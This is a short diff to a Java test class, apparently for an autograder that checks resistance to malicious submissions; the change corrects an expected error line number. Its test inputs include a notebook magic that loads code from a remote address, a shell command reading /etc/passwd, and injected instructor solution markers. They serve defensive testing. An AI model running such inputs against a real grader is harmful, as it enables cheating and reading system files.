@@ -198,7 +198,7 @@ class AttackTest {
                         "magics and commands",
                         "%load http://192.0.2.1/solution\n/exit\n!cat /etc/passwd\n"
                                 + inSquare("return x;"),
-                        "line 1: "),
+                        "line 2: "),
                 attack(
                         "markers of the instructor's",
                         "// BEGIN HIDDEN TESTS\n// END HIDDEN TESTS\n// BEGIN SOLUTION\n"
